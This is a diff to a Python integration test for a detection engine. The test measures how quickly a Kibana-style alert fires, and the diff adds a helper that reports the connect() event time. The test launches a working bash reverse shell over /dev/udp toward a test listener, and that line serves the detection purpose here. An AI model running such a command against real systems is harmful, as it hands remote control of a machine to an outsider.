@@ -121,6 +121,17 @@ def _seed_group_to(watch: WatchProcess, ip: str) -> float | None:
     return None
 
 
+def _connect_time(watch: WatchProcess, ip: str) -> float:
+    """Audit time (epoch seconds) of the connect() event in the seed alert group."""
+    from auditeql.engine.ordering import timestamp_ms
+
+    for _arrived, doc in list(watch.lines):
+        dest = doc.get("destination", {}).get("ip") if isinstance(doc.get("destination"), dict) else doc.get("destination.ip")
+        if doc.get("kibana.alert.rule.rule_id") == SEED_ID and dest == ip and doc.get("kibana.alert.original_time"):
+            return float(timestamp_ms(doc["kibana.alert.original_time"])) / 1000.0
+    raise AssertionError("no connect event in the alert group")
+
+
 def test_udp_reverse_shell_alerts_within_one_second(
     installed_rules: str, test_host: NetnsHost, hanging_webhook: str, tmp_path: Path
 ) -> None:
@@ -131,14 +142,19 @@ def test_udp_reverse_shell_alerts_within_one_second(
         assert wait_for(lambda: "watching netlink" in watch.err_text(), 20), watch.err_text()
         time.sleep(0.2)  # the multicast subscription is open before the message; a margin anyway
 
-        launched = time.monotonic()
+        launched, launched_wall = time.monotonic(), time.time()
         shell = test_host.spawn(["bash", "-c", f"bash -i >& /dev/udp/{SERVER4}/{test_host.port} 0>&1"],
                                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
         assert wait_for(lambda: _seed_group_to(watch, SERVER4) is not None, 5), (
             f"no alert for the reverse shell; watch said:\n{watch.err_text()}"
         )
-        latency = _seed_group_to(watch, SERVER4) - launched  # type: ignore[operator]
-        print(f"alert latency: {latency * 1000:.0f} ms")
+        arrived = _seed_group_to(watch, SERVER4)
+        assert arrived is not None
+        latency = arrived - launched
+        connect_wall = _connect_time(watch, SERVER4)
+        arrived_wall = launched_wall + latency
+        print(f"alert {latency * 1000:.0f} ms after launching the shell; connect() at +"
+              f"{(connect_wall - launched_wall) * 1000:.0f} ms, alert {(arrived_wall - connect_wall) * 1000:.0f} ms after it")
         assert latency < 1.0, f"alert arrived {latency:.3f}s after launching the shell"
 
         # the listener answered "exit": the shell ends by itself (killed at clean-up otherwise)
